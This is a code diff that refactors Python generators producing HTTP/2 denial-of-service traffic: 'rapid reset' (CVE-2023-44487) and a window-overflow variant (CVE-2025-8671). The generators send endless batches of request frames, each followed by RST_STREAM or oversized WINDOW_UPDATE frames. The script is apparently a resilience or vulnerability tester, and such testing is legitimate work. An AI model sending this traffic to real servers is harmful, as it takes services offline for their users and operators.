@@ -10,28 +10,26 @@ START = PREFACE + frame(SETTINGS)
 PATHS = [b"/livez", b"/api/v1/deliveries/wait?timeout=60&query=never", b"/api/v1/deliveries"]
 
 
-def rapid_reset():
-    """Requests that are reset at once (CVE-2023-44487)."""
+def requests_with(kind, contents):
+    """Batches of requests, each followed by a frame for the same stream."""
     stream = 1
     while True:
         batch = b""
         for _ in range(100):
             batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, request(PATHS[stream // 2 % len(PATHS)]))
-            batch += frame(RESET, 0, stream, struct.pack(">I", 8))
+            batch += frame(kind, 0, stream, contents)
             stream += 2
         yield batch
+
+
+def rapid_reset():
+    """Requests that are reset at once (CVE-2023-44487)."""
+    return requests_with(RESET, struct.pack(">I", 8))
 
 
 def made_to_reset():
     """Requests that the server itself resets, since their window overflows (CVE-2025-8671)."""
-    stream = 1
-    while True:
-        batch = b""
-        for _ in range(100):
-            batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, request(PATHS[stream // 2 % len(PATHS)]))
-            batch += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
-            stream += 2
-        yield batch
+    return requests_with(WINDOW_UPDATE, struct.pack(">I", 0x7FFFFFFF))
 
 
 def continuation():
